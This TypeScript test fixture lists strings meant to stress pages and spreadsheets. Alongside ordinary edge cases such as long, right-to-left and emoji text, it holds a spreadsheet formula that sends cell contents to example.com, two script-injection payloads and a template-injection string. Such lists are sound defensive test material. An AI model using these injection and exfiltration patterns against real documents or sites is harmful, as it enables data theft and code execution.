// Texts that a careless page or sheet would run, cut off or turn round.

export const hostileTexts: readonly string[] = [
  '=IMPORTXML("http://example.com/?"&A1,"//a")',
  '<script>document.title = "run"</script>',
  '<img src=x onerror="document.title=1">',
  `A very long title ${'word '.repeat(90)}${'w'.repeat(40)}`.slice(0, 500),
  'خطة النمو للربع القادم',
  '👩‍🚀 Launch 🚀 the ﷽ plan',
  '+1 \'quoted\' "twice" & more',
  '{{constructor.constructor("return 1")()}}',
];
